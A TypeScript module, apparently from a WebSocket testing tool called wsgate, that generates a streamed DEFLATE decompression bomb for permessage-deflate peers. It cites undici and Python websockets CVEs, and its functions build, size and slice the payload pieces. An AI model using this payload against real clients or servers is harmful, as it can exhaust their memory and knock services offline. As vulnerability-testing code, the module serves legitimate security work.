/**
 * A decompression bomb as a stream: a message of zeros that inflates to any multiple of 4 MiB from
 * about 1/1000 of that on the wire, generated from one compressed piece that is never more than a
 * few KiB, so wsgate never holds what the peer is asked to inflate (undici CVE-2026-1526, Python
 * websockets CVE-2018-1000518). Pure.
 */
import zlib from 'node:zlib';

/** Bytes of zeros one piece inflates to. */
export const BOMB_PIECE_INFLATED = 4 * 1024 * 1024;

/** RFC 7692 §7.2.1: the 4 octets a sender removes from the end of a message (the empty stored block). */
const SYNC_TAIL = Buffer.from([0x00, 0x00, 0xff, 0xff]);

let piece: Buffer | null = null;

/**
 * The compressed piece: DEFLATE blocks of BOMB_PIECE_INFLATED zeros ending with a full flush (an empty
 * stored block, byte-aligned, the compressor's window reset), so copies concatenate into one valid
 * stream and no copy reaches back into another. A 512-byte window (windowBits 9, zlib's smallest)
 * fits any server_max_window_bits a client may have asked for. Measured: 4,085 bytes (ratio ~1,027).
 */
export function bombPiece(): Buffer {
  piece ??= zlib.deflateRawSync(Buffer.alloc(BOMB_PIECE_INFLATED), { level: 9, windowBits: 9, memLevel: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  return piece;
}

/** The wire length of a bomb of `pieces` pieces: the last piece goes without its sync tail (§7.2.1). */
export function bombLength(pieces: number): number {
  return pieces * bombPiece().length - SYNC_TAIL.length;
}

/** Piece `i` of `pieces` as it goes on the wire: the last one without its sync tail. */
export function bombPieceAt(i: number, pieces: number): Buffer {
  const p = bombPiece();
  return i === pieces - 1 ? p.subarray(0, p.length - SYNC_TAIL.length) : p;
}
